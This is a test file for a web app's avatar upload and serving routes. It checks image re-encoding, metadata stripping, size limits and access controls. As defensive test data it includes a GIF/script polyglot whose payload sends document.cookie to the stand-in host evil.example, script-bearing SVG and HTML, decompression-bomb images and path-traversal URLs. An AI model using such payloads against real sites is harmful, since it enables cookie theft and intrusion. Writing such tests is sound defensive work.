// Avatars: POST /web/user/avatar (multipart, one PNG/JPEG/WebP/GIF image of at most 2 MB, type read
// from the bytes), serving /uploads/avatars/<file> and the default /avatars/default.svg; all of it
// with each driver of the file store (UPLOAD_DRIVER: the uploaded_files table, and UPLOAD_DIR).
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../api/app.ts';
import { db } from '../../api/db/client.ts';
import type { Database } from '../../api/db/database.ts';
import { AVATAR_MAX_BYTES } from '../../api/modules/user/user.service.ts';
import { createTestApp, type TestApp } from '../helpers/testApp.ts';
import { useTestDatabase } from '../helpers/testDatabase.ts';

let database: Database;
let app: App;
let uploadDir: string;
let avatarDir: string;
let api: TestApp;

const testDatabase = useTestDatabase();

describe.each(['database', 'disk'] as const)('with UPLOAD_DRIVER=%s', (driver) => {
  beforeAll(async () => {
    database = testDatabase();
    uploadDir = await mkdtemp(path.join(tmpdir(), 'avatar-test-'));
    avatarDir = path.join(uploadDir, 'avatars');
    api = await createTestApp(database, { uploadDir, env: { UPLOAD_DRIVER: driver } });
    app = api.app;
  });

  afterAll(async () => {
    await app?.close();
    if (uploadDir) await rm(uploadDir, { recursive: true, force: true });
  });

  /** The names of the stored avatar files, sorted. */
  async function files(): Promise<string[]> {
    if (driver === 'disk') return existsSync(avatarDir) ? (await readdir(avatarDir)).sort() : [];
    const rows = await db().uploadedFile.findMany({ where: { kind: 'avatar' }, select: { key: true } });
    return rows.map((row) => path.basename(row.key)).sort();
  }

  /** The stored bytes of the avatar at `url`, or undefined when none is stored. */
  async function stored(url: string): Promise<Buffer | undefined> {
    const name = path.basename(url);
    if (driver === 'disk') return existsSync(path.join(avatarDir, name)) ? readFileSync(path.join(avatarDir, name)) : undefined;
    const row = await db().uploadedFile.findUnique({ where: { key: `avatars/${name}` } });
    return row ? Buffer.from(row.bytes) : undefined;
  }

  const login = () => api.signIn();

  type Part = { field?: string; filename?: string; contentType?: string; data: Buffer | string };

  function multipart(parts: Part[]) {
    const boundary = `----avatar${randomBytes(8).toString('hex')}`;
    const chunks: Buffer[] = [];
    for (const part of parts) {
      const disposition = `form-data; name="${part.field ?? 'file'}"${part.filename ? `; filename="${part.filename}"` : ''}`;
      chunks.push(
        Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}\r\n${part.contentType ? `Content-Type: ${part.contentType}\r\n` : ''}\r\n`),
      );
      chunks.push(Buffer.isBuffer(part.data) ? part.data : Buffer.from(part.data));
      chunks.push(Buffer.from('\r\n'));
    }
    chunks.push(Buffer.from(`--${boundary}--\r\n`));
    return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
  }

  async function upload(parts: Part[], options: { token?: string; language?: string; marker?: boolean } = {}) {
    const body = multipart(parts);
    const response = await app.inject({
      method: 'POST',
      url: '/web/user/avatar',
      headers: {
        'content-type': body.contentType,
        ...(options.marker === false ? {} : { 'x-requested-with': 'XMLHttpRequest' }),
        ...(options.token ? { cookie: `Authorization=${options.token}` } : {}),
        ...(options.language ? { 'accept-language': options.language } : {}),
      },
      payload: body.payload,
    });
    return { status: response.statusCode, body: response.json() as { code: number; msg: string; data: any } };
  }

  // the smallest real images of each type (1×1 pixel), and padding to reach a size
  const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
  const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0'), Buffer.alloc(64, 0), Buffer.from([0xff, 0xd9])]);
  const padded = (image: Buffer, size: number) => Buffer.concat([image, Buffer.alloc(size - image.length, 0)]);

  /** A real image of `format`, 300 × 200 pixels in two colours, carrying metadata (EXIF with a GPS position, an ICC profile). */
  const photo = (format: 'png' | 'jpeg' | 'webp' | 'gif') =>
    sharp({ create: { width: 300, height: 200, channels: 3, background: { r: 200, g: 30, b: 40 } } })
      .composite([{ input: { create: { width: 100, height: 200, channels: 3, background: { r: 10, g: 120, b: 250 } } }, left: 0, top: 0 }])
      .withMetadata({ exif: { IFD0: { Copyright: 'secret-owner', Artist: 'gps-31.23N-121.47E' } } })
      .toFormat(format)
      .toBuffer();

  /** A PNG whose IHDR claims `width` × `height` (with a valid CRC) followed by nothing of that size. */
  function pngClaiming(width: number, height: number): Buffer {
    const ihdr = Buffer.alloc(13);
    ihdr.writeUInt32BE(width, 0);
    ihdr.writeUInt32BE(height, 4);
    ihdr.set([8, 2, 0, 0, 0], 8);
    const chunk = (type: string, data: Buffer) => {
      const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
      const length = Buffer.alloc(4);
      length.writeUInt32BE(data.length);
      const crc = Buffer.alloc(4);
      crc.writeUInt32BE(crc32(body));
      return Buffer.concat([length, body, crc]);
    };
    return Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', ihdr),
      chunk('IDAT', deflateSync(Buffer.alloc(64))),
      chunk('IEND', Buffer.alloc(0)),
    ]);
  }

  describe('uploading an avatar', () => {
    it.each(['png', 'jpeg', 'webp', 'gif'] as const)(
      'stores a %s only as its re-encoding: a 256 × 256 WebP without metadata under a random name, served as such with a long cache',
      async (format) => {
        const { token, userId } = await login();
        const image = await photo(format);
        const reply = await upload([{ filename: 'me.bin', contentType: 'application/octet-stream', data: image }], { token });
        expect(reply.status).toBe(200);
        expect(reply.body.code).toBe(0);
        const url: string = reply.body.data.avatar;
        expect(url).toMatch(/^\/uploads\/avatars\/[0-9a-f]{32}\.webp$/);
        expect((await db().user.findUniqueOrThrow({ where: { id: userId } })).avatarUrl).toBe(url);
        const bytes = (await stored(url))!;
        expect(bytes.equals(image)).toBe(false);
        const metadata = await sharp(bytes).metadata();
        expect(metadata).toMatchObject({ format: 'webp', width: 256, height: 256 });
        expect(metadata.exif).toBeUndefined();
        expect(metadata.icc).toBeUndefined();
        expect(bytes.includes('secret-owner')).toBe(false);

        const served = await app.inject({ method: 'GET', url });
        expect(served.statusCode).toBe(200);
        expect(served.headers['content-type']).toBe('image/webp');
        expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
        expect(served.headers['x-content-type-options']).toBe('nosniff');
        expect(served.rawPayload).toEqual(bytes);
      },
    );

    it('neutralises a GIF/script polyglot: what is stored and served is a fresh image without the script', async () => {
      const { token } = await login();
      const payload = '\n/*<script>alert(document.cookie)</script>*/=1;fetch("//evil.example/"+document.cookie)//';
      const polyglot = Buffer.concat([await photo('gif'), Buffer.from(payload)]);
      const reply = await upload([{ filename: 'cat.gif', contentType: 'image/gif', data: polyglot }], { token });
      expect(reply.body.code).toBe(0);
      const served = await app.inject({ method: 'GET', url: reply.body.data.avatar });
      expect(served.headers['content-type']).toBe('image/webp');
      expect(served.rawPayload.includes('script')).toBe(false);
      expect(served.rawPayload.includes('evil.example')).toBe(false);
      expect((await sharp(served.rawPayload).metadata()).format).toBe('webp');
    });

    it.each([
      ['a header claiming 100000 × 100000 pixels', () => Promise.resolve(pngClaiming(100_000, 100_000))],
      // a decompression bomb: a small file (one colour compresses to almost nothing) that decodes to 36 million pixels
      [
        'a decompression bomb of 6000 × 6000 pixels',
        () =>
          sharp({ create: { width: 6000, height: 6000, channels: 3, background: '#ffffff' } })
            .png({ compressionLevel: 9 })
            .toBuffer(),
      ],
    ])('refuses %s before decoding it, keeping the old avatar', async (_, make) => {
      const { token, userId } = await login();
      const bomb = await make();
      expect(bomb.length).toBeLessThan(AVATAR_MAX_BYTES);
      const before = await files();
      const reply = await upload([{ filename: 'big.png', contentType: 'image/png', data: bomb }], { token });
      expect(reply).toEqual({ status: 400, body: { code: 400, msg: '图片尺寸过大，像素总数不能超过 5000 × 5000', data: null } });
      expect((await upload([{ filename: 'big.png', contentType: 'image/png', data: bomb }], { token, language: 'en' })).body.msg).toBe(
        'The image is too large: at most 5000 × 5000 pixels',
      );
      expect(await files()).toEqual(before);
      expect((await db().user.findUniqueOrThrow({ where: { id: userId } })).avatarUrl).toBeNull();
    });

    it.each([
      ['a truncated PNG', async () => (await photo('png')).subarray(0, 120)],
      ['a JPEG header over zeros', async () => JPEG],
    ])('refuses %s that cannot be decoded', async (_, make) => {
      const { token, userId } = await login();
      const reply = await upload([{ filename: 'broken.png', contentType: 'image/png', data: await make() }], { token });
      expect(reply).toEqual({ status: 400, body: { code: 400, msg: '无法读取这张图片，文件可能已损坏，请换一张', data: null } });
      expect((await db().user.findUniqueOrThrow({ where: { id: userId } })).avatarUrl).toBeNull();
    });

    it('replaces the previous upload and deletes its file; the viewer shows the new one', async () => {
      const { token } = await login();
      const first = (await upload([{ filename: 'a.png', contentType: 'image/png', data: PNG }], { token })).body.data.avatar;
      const second = (await upload([{ filename: 'b.gif', contentType: 'image/gif', data: GIF }], { token })).body.data.avatar;
      expect(second).not.toBe(first);
      expect(await stored(first)).toBeUndefined();
      expect(await stored(second)).toBeDefined();
      expect((await app.inject({ method: 'GET', url: first })).statusCode).toBe(404);
      const viewer = await app.inject({
        method: 'POST',
        url: '/graphql',
        headers: { 'content-type': 'application/json', 'x-requested-with': 'XMLHttpRequest', cookie: `Authorization=${token}` },
        payload: { query: '{ viewer { avatarUrl } }' },
      });
      expect(viewer.json().data.viewer.avatarUrl).toBe(second);
    });

    it('accepts exactly 2 MB (past the 1 MB JSON body limit) and refuses one byte more, keeping the old avatar', async () => {
      const { token, userId } = await login();
      const exact = await upload([{ filename: 'big.png', contentType: 'image/png', data: padded(PNG, 2 * 1024 * 1024) }], { token });
      expect(exact.body.code).toBe(0);
      const before = await files();
      const tooBig = await upload([{ filename: 'huge.png', contentType: 'image/png', data: padded(PNG, 2 * 1024 * 1024 + 1) }], { token });
      expect(tooBig).toEqual({ status: 413, body: { code: 413, msg: '图片大小不能超过 2 MB', data: null } });
      const english = await upload([{ filename: 'huge.png', contentType: 'image/png', data: padded(PNG, 3 * 1024 * 1024) }], { token, language: 'en' });
      expect(english.body.msg).toBe('The image can be at most 2 MB');
      expect(await files()).toEqual(before);
      expect((await db().user.findUniqueOrThrow({ where: { id: userId } })).avatarUrl).toBe(exact.body.data.avatar);
    });

    it.each([
      ['an SVG', 'logo.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
      ['text named .png with an image type', 'fake.png', 'image/png', 'this is not an image at all'],
      ['a BMP', 'old.bmp', 'image/bmp', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60, 1)])],
      ['HTML', 'page.jpg', 'image/jpeg', '<html><script>alert(1)</script></html>'],
      ['a RIFF that is not WebP', 'sound.webp', 'image/webp', Buffer.concat([Buffer.from('RIFF'), Buffer.alloc(4), Buffer.from('WAVEfmt '), Buffer.alloc(16)])],
    ])('refuses %s, whatever its name and declared type', async (_, filename, contentType, data) => {
      const { token, userId } = await login();
      const before = await files();
      const reply = await upload([{ filename, contentType, data }], { token });
      expect(reply).toEqual({ status: 400, body: { code: 400, msg: '只能上传 JPG、PNG、WebP 或 GIF 图片', data: null } });
      expect((await upload([{ filename, contentType, data }], { token, language: 'en' })).body.msg).toBe('Only JPG, PNG, WebP or GIF images can be uploaded');
      expect(await files()).toEqual(before);
      expect((await db().user.findUniqueOrThrow({ where: { id: userId } })).avatarUrl).toBeNull();
    });

    it('reads the real type from the bytes, not the name', async () => {
      const { token } = await login();
      const reply = await upload([{ filename: 'notes.txt', contentType: 'text/plain', data: GIF }], { token });
      expect(reply.body.code).toBe(0);
      expect(reply.body.data.avatar).toMatch(/\.webp$/);
    });

    it('refuses no file, an empty file, a JSON body (415) and two files', async () => {
      const { token } = await login();
      expect((await upload([{ field: 'nickname', data: 'only a field' }], { token })).body).toEqual({ code: 400, msg: '请选择要上传的图片', data: null });
      expect((await upload([{ filename: 'empty.png', contentType: 'image/png', data: Buffer.alloc(0) }], { token })).body.msg).toBe('请选择要上传的图片');
      const json = await app.inject({
        method: 'POST',
        url: '/web/user/avatar',
        headers: { 'content-type': 'application/json', 'x-requested-with': 'XMLHttpRequest', cookie: `Authorization=${token}` },
        payload: JSON.stringify({ avatar: 'data:image/png;base64,AAAA' }),
      });
      expect(json.statusCode).toBe(415);
      expect(json.json()).toEqual({ code: 415, msg: '不支持的请求格式，请使用 multipart/form-data', data: null });
      const two = await upload(
        [
          { filename: 'a.png', contentType: 'image/png', data: PNG },
          { field: 'second', filename: 'b.png', contentType: 'image/png', data: PNG },
        ],
        { token },
      );
      expect(two.body).toEqual({ code: 400, msg: '一次只能上传一张图片', data: null });
    });

    it('needs a session and the XMLHttpRequest marker; nothing is stored otherwise', async () => {
      const before = await files();
      expect(await upload([{ filename: 'a.png', contentType: 'image/png', data: PNG }])).toEqual({
        status: 401,
        body: { code: 401, msg: '请登录', data: null },
      });
      const { token, userId } = await login();
      const forged = await upload([{ filename: 'a.png', contentType: 'image/png', data: PNG }], { token, marker: false });
      expect(forged.status).toBe(403);
      expect(await files()).toEqual(before);
      expect((await db().user.findUniqueOrThrow({ where: { id: userId } })).avatarUrl).toBeNull();
    });
  });

  describe('serving avatars', () => {
    it('serves the default avatar as SVG', async () => {
      const response = await app.inject({ method: 'GET', url: '/avatars/default.svg' });
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('image/svg+xml; charset=utf-8');
      expect(response.headers['cache-control']).toBe('public, max-age=86400');
      expect(response.body).toMatch(/^<svg [^>]*xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
      expect(response.body).not.toMatch(/<script/i);
    });

    it('serves only our own files of the avatars folder: no listing, no other names, no way out', async () => {
      await mkdir(avatarDir, { recursive: true });
      await writeFile(path.join(avatarDir, 'notes.txt'), 'private');
      await writeFile(path.join(avatarDir, '.hidden.png'), PNG);
      await writeFile(path.join(uploadDir, 'outside.png'), PNG);
      for (const url of [
        '/uploads/avatars/',
        '/uploads/avatars',
        '/uploads/avatars/notes.txt',
        '/uploads/avatars/.hidden.png',
        '/uploads/avatars/../outside.png',
        '/uploads/avatars/%2e%2e/outside.png',
        '/uploads/avatars/%2e%2e%2foutside.png',
        '/uploads/outside.png',
        `/uploads/avatars/${'0'.repeat(32)}.png`,
      ]) {
        const response = await app.inject({ method: 'GET', url });
        expect([400, 403, 404], url).toContain(response.statusCode);
        expect(response.body, url).not.toContain('private');
        expect(response.rawPayload.subarray(0, 8).equals(PNG.subarray(0, 8)), url).toBe(false);
      }
    });
  });
});
